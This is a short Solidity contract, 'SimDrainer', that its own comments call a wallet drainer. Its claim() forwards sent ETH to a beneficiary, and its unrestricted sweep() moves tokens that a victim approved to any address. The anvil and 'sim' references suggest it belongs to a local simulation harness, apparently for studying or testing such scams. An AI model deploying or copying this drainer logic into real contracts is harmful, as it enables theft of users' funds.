// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import "./SimPair.sol";

/// A wallet drainer: `claim()` forwards a victim's ETH to the beneficiary (slot 0, which
/// `sim live` sets with anvil_setStorageAt), and `sweep` pulls tokens a victim approved.
contract SimDrainer {
    address payable public beneficiary;

    function claim() external payable {
        (bool ok,) = beneficiary.call{value: msg.value}("");
        require(ok, "SEND");
    }

    function sweep(address token, address victim, address to, uint256 amount) external {
        require(ISimToken(token).transferFrom(victim, to, amount), "TRANSFER_FROM");
    }
}
